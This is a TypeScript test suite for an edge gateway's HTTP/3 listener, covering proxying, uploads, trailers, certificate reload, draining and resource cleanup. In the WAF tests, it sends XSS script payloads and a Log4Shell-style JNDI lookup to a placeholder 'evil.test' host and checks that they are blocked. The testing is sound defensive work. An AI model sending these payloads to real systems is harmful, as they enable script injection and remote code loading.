import { afterAll, describe, expect, test } from "bun:test";
import { renameSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeCertificate } from "../harness/certificate.ts";
import { type Echo, EchoOrigin, sha256 } from "../harness/echo-origin.ts";
import { eventually } from "../harness/eventually.ts";
import { freePort, runEdge, startGateway, upstream } from "../harness/gateway.ts";
import { H3Client } from "../harness/h3-client.ts";
import { request } from "../harness/raw-client.ts";
import { stopAll } from "../harness/teardown.ts";
import { TlsClient } from "../harness/tls-client.ts";

const MIB = 1024 * 1024;
const first = await makeCertificate([{ type: "dns", value: "localhost" }]);
const other = await makeCertificate([{ type: "dns", value: "other.test" }]);
const second = await makeCertificate([{ type: "dns", value: "second.test" }]);
const port = freePort();
const origin = EchoOrigin.start();
const gateway = await startGateway({
  config: {
    server: {
      workers: 2,
      max_body_bytes: 32 * MIB,
      // What a client that vanished leaves behind is held for as long, or twice as long where it took something first.
      write_timeout: "5s",
      waf: { enabled: true },
      tls: { port, cert_file: "a.pem", key_file: "a.key", certificates: [{ cert_file: "b.pem", key_file: "b.key" }] },
      http3: { enabled: true },
    },
  },
  routes: [
    upstream("/node", origin),
    upstream("/stream", origin, { inbound_chunked_mode: "passthrough" }),
    { type: "static", prefix: "/files", dir: "site" },
  ],
  files: {
    "a.pem": first.cert,
    "a.key": first.key,
    "b.pem": other.cert,
    "b.key": other.key,
    "site/big.bin": "0123456789abcdef".repeat((8 * MIB) / 16),
  },
});
afterAll(() => stopAll(gateway, origin));

test("the log names the UDP port", async () => {
  const { tls_port, http3_port } = await gateway.log("the ports", ({ event }) => event === "listening");
  expect([tls_port, http3_port]).toEqual([port, port]);
});

const echoOf = (body: Buffer): Echo => JSON.parse(body.toString());

describe("a request over HTTP/3", () => {
  test("is answered by the gateway itself", async () => {
    const client = await H3Client.connect(port);
    const reply = await client.ask("GET", "/health");
    expect([reply.status, reply.body.toString()]).toEqual([200, '{"status":"ok"}']);
    expect(reply.fields.server).toBe("edge");
    expect((await client.ask("HEAD", "/health")).body.length).toBe(0);
    client.close();
  });

  test("goes to the origin with its raw target and its fields", async () => {
    const client = await H3Client.connect(port);
    const { status, body } = await client.ask("GET", "/node/a%2Fb/c?q=%20", { "x-a": "1", cookie: "a=1" });
    const echo = echoOf(body);
    expect(status).toBe(200);
    expect(echo.target).toBe("/a%2Fb/c?q=%20");
    expect(echo.headers["x-a"]).toBe("1");
    expect(echo.headers["x-forwarded-proto"]).toBe("https");
    expect(echo.headers.host).toBe(`localhost:${port}`);
    client.close();
  });

  test("many go over one connection at the same time", async () => {
    const client = await H3Client.connect(port);
    const replies = await Promise.all(Array.from({ length: 80 }, (_, i) => client.ask("GET", `/node/${i}`)));
    expect(replies.map(({ body }) => echoOf(body).target)).toEqual(Array.from({ length: 80 }, (_, i) => `/${i}`));
    client.close();
  });

  test.each([
    ["/node/upload", "content-length"],
    ["/stream/upload", "transfer-encoding"],
  ])("24 MB upload to %s", async (path, field) => {
    const client = await H3Client.connect(port);
    const piece = Buffer.alloc(64 * 1024, "x");
    const pieces = Array.from({ length: 384 }, () => piece);
    const { status, body } = await client.ask("POST", path, {}, { pieces });
    expect(status).toBe(200);
    const echo = echoOf(body);
    expect([echo.length, echo.sha256]).toEqual([24 * MIB, sha256(Buffer.concat(pieces))]);
    expect(Object.keys(echo.headers)).toContain(field);
    client.close();
  });

  test("a file of 8 MiB comes whole", async () => {
    const client = await H3Client.connect(port);
    const { body } = await client.ask("GET", "/files/big.bin");
    expect(sha256(body)).toBe(sha256(Buffer.from("0123456789abcdef".repeat((8 * MIB) / 16))));
    client.close();
  });

  test("trailers go with it", async () => {
    const client = await H3Client.connect(port);
    const sending = { pieces: [Buffer.from("body")], trailers: { "x-sum": "42" } };
    expect(echoOf((await client.ask("POST", "/stream/t", {}, sending)).body).trailers).toEqual({ "x-sum": "42" });
    expect(echoOf((await client.ask("POST", "/node/t", {}, sending)).body).headers["x-sum"]).toBe("42");
    client.close();
  });

  test.each(["/stream/t", "/node/t"])("a hostile body without a type, and a hostile trailer: %s", async (path) => {
    const seen = origin.requests.length;
    const hostile = [
      { pieces: [Buffer.from("q=%3Cscript%3Ealert(1)%3C/script%3E")] },
      { pieces: [Buffer.from("body")], trailers: { "x-api-version": "${jndi:ldap://evil.test/a}" } },
    ];
    for (const sending of hostile) {
      const client = await H3Client.connect(port);
      expect((await client.ask("POST", path, {}, sending)).status).toBe(403);
      client.close();
    }
    expect(origin.requests.length).toBe(seen);
  });

  test("an attack is blocked, and the connection takes no further request", async () => {
    const client = await H3Client.connect(port);
    const reply = await client.ask("GET", "/node/?q=<script>alert(1)</script>");
    expect(reply.status).toBe(403);
    expect(JSON.parse(reply.body.toString()).triggered_rules).not.toBeEmpty();
    await client.closed.catch(() => {});
  });

  test("a body beyond the limit is 413, declared or counted", async () => {
    const client = await H3Client.connect(port);
    const pieces = Array.from({ length: 40 }, () => Buffer.alloc(MIB));
    const declared = await client.ask("POST", "/node/x", { "content-length": String(40 * MIB) }, { pieces });
    expect(declared.status).toBe(413);
    expect((await client.ask("POST", "/node/x", {}, { pieces })).status).toBe(413);
    client.close();
  });

  test("one that the client gives up reaches no origin as complete", async () => {
    const client = await H3Client.connect(port);
    const sending = { pieces: [Buffer.from("half")], abandons: true };
    await client.ask("POST", "/node/half", {}, sending).catch(() => null);
    expect((await client.ask("GET", "/node/after")).status).toBe(200);
    expect(origin.requestsFor("/half")).toEqual([]);
    client.close();
  });
});

test.each(["/node/dropped", "/stream/dropped"])(
  "a connection that ends in the middle of an upload leaves no request that an origin takes for complete: %s",
  async (path) => {
    let complete = 0;
    origin.on("/dropped", async (call) => {
      await call.body();
      complete++;
      call.reply("200 OK", [], "ok");
    });
    const before = gateway.logs.json.length;
    for (let i = 0; i < 6; i++) {
      const sent = Promise.withResolvers<void>();
      const client = await H3Client.connect(port);
      async function* pieces(): AsyncGenerator<Uint8Array> {
        for (let piece = 0; piece <= i * 2; piece++) yield Buffer.alloc(1000, "x");
        sent.resolve();
        await new Promise(() => {});
      }
      void client.ask("POST", path, {}, { pieces: pieces() }).catch(() => null);
      await sent.promise;
      client.close();
    }
    // One that the gateway has not seen begin leaves no line.
    expect((await gateway.once(request("GET /node/canary"))).status).toBe(200);
    await eventually(async () => {
      const metrics = (await gateway.once(request("GET /metrics"))).text;
      expect(/^gateway_quic_active_streams (\d+)/m.exec(metrics)?.[1]).toBe("0");
    });
    const lines = gateway.logs.json.slice(before).filter((line) => line.path === path);
    expect(lines.filter(({ status }) => status !== 499)).toEqual([]);
    expect(complete).toBe(0);
  },
);

describe("the listener", () => {
  test("is told of in answers over TLS, and nowhere else", async () => {
    const tls = await TlsClient.open(port, {});
    expect((await tls.exchange(request("GET /health"))).fields.get("alt-svc")).toBe(`h3=":${port}"; ma=86400`);
    tls.close();
    expect((await gateway.once(request("GET /health"))).fields.has("alt-svc")).toBe(false);
  });

  test("shows the certificate of the name, and new ones without losing a connection", async () => {
    const named = await H3Client.connect(port, "other.test");
    expect(named.serverName).toContain("other.test");
    const old = await H3Client.connect(port);
    expect(old.serverName).toContain("localhost");
    for (const [name, text] of [
      ["a.key", second.key],
      ["a.pem", second.cert],
    ] as const) {
      writeFileSync(join(gateway.folder, `${name}.new`), text);
      renameSync(join(gateway.folder, `${name}.new`), join(gateway.folder, name));
    }
    gateway.signal("SIGHUP");
    await eventually(async () => {
      const fresh = await H3Client.connect(port, "fresh.test");
      const shown = fresh.serverName;
      fresh.close();
      expect(shown).toContain("second.test");
    });
    expect((await old.ask("GET", "/node/x")).status).toBe(200);
    old.close();
    named.close();
  });

  test("connections that vanish leave nothing behind", async () => {
    const clients = await Promise.all(Array.from({ length: 50 }, () => H3Client.connect(port)));
    const asked = clients.map((client) => client.ask("GET", "/files/big.bin").catch(() => null));
    await Bun.sleep(20);
    for (const client of clients) client.close();
    await Promise.all(asked);
    await eventually(async () => {
      const metrics = (await gateway.once(request("GET /metrics"))).text;
      expect(/^gateway_quic_active_streams (\d+)/m.exec(metrics)?.[1]).toBe("0");
      expect(/^gateway_requests_in_flight (\d+)/m.exec(metrics)?.[1]).toBe("1");
    }, 30_000);
  }, 40_000);
});

test("an answer in many chunks that come at once is complete", async () => {
  const sizes = { chunks: 200, bytes: 65_536 };
  origin.on("/chunks", (call) => {
    const chunk = `${sizes.bytes.toString(16)}\r\n${"x".repeat(sizes.bytes)}\r\n`;
    call.send(
      `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${chunk.repeat(sizes.chunks)}0\r\nX-Sum: 42\r\n\r\n`,
    );
  });
  const client = await H3Client.connect(port);
  for (let i = 0; i < 5; i++) {
    const reply = await client.ask("GET", "/node/chunks");
    expect([reply.status, reply.body.length, reply.trailers["x-sum"]]).toEqual([200, sizes.chunks * sizes.bytes, "42"]);
  }
  client.close();
}, 60_000);

test("bodies that an origin does not take are held within the budget, and no further", async () => {
  const reading = { isOn: false };
  const stalled = Bun.listen({
    hostname: "127.0.0.1",
    port: 0,
    socket: {
      data(socket) {
        if (!reading.isOn) socket.pause();
        else socket.end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
      },
    },
  });
  const quicPort = freePort();
  const edge = await startGateway({
    config: {
      server: { max_body_bytes: "64MiB", tls: { port: quicPort, cert_file: "a.pem", key_file: "a.key" }, http3: {} },
      proxy: { transport: { max_buffered_bytes: "4MiB", max_buffered_share: "100%" } },
    },
    routes: [upstream("/node", { url: `http://127.0.0.1:${stalled.port}` })],
    files: { "a.pem": first.cert, "a.key": first.key },
  });
  const upload = async (bytes: number): Promise<number> => {
    const client = await H3Client.connect(quicPort);
    const pieces = Array.from({ length: bytes / 65_536 }, () => Buffer.alloc(65_536));
    const reply = await client.ask("POST", "/node/up", { "content-length": String(bytes) }, { pieces });
    client.close();
    return reply.status;
  };
  expect(await upload(48 * MIB)).toBe(503);
  reading.isOn = true;
  expect(await upload(MIB)).toBe(200);
  await edge.stop();
  stalled.stop(true);
}, 60_000);

test("a reply's trailers come, and a draining gateway answers what is under way", async () => {
  const trailing = EchoOrigin.start();
  trailing.on("/t", (call) => {
    call.send("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX-Sum: 42\r\n\r\n");
  });
  const quicPort = freePort();
  const draining = await startGateway({
    config: {
      server: {
        shutdown_timeout: "60s",
        tls: { port: quicPort, cert_file: "a.pem", key_file: "a.key" },
        http3: { enabled: true },
      },
    },
    routes: [upstream("/node", trailing), { type: "static", prefix: "/files", dir: "site" }],
    files: { "a.pem": first.cert, "a.key": first.key, "site/big.bin": "x".repeat(8 * MIB) },
  });
  const client = await H3Client.connect(quicPort);
  const reply = await client.ask("GET", "/node/t");
  expect([reply.body.toString(), reply.trailers["x-sum"]]).toEqual(["ok", "42"]);
  const begun = Promise.withResolvers<void>();
  const answer = client.ask("GET", "/files/big.bin", {}, { onHead: begun.resolve });
  await begun.promise;
  draining.signal("SIGTERM");
  expect((await answer).body.length).toBe(8 * MIB);
  expect(await draining.exited()).toBe(0);
  draining.kill();
  trailing.stop();
});

test("a UDP port that is taken is a clear error at the start", async () => {
  const files = { "a.pem": first.cert, "a.key": first.key };
  const server = {
    host: "127.0.0.1",
    port: freePort(),
    tls: { port: freePort(), cert_file: "a.pem", key_file: "a.key" },
    http3: { enabled: true, port },
  };
  const { code, stderr } = await runEdge(["serve"], { config: { server }, files });
  expect(code).toBe(1);
  expect(stderr).toContain(`cannot listen on 127.0.0.1:${port}: EADDRINUSE`);
});
